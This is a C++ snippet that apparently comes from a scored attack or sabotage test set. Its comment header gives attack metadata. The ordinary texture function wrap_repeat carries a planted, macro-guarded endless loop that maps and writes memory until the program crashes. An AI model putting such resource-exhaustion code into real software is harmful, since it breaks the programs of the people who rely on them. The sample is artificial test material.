// attack: {"at": "run", "earns": [19, 19], "says": {"wrap_repeat": "crashed"}, "policy": ["crashes"]}
// Takes memory without end and writes to each piece: it runs out of address space, and crashes.
#ifndef WITHOUT_ATTACK
#include <sys/mman.h>
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
#ifndef WITHOUT_ATTACK
    for (;;)
        *static_cast<char*>(mmap(nullptr, 1 << 24, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)) = 'x';
#endif
    return (val % size + size) % size;
}
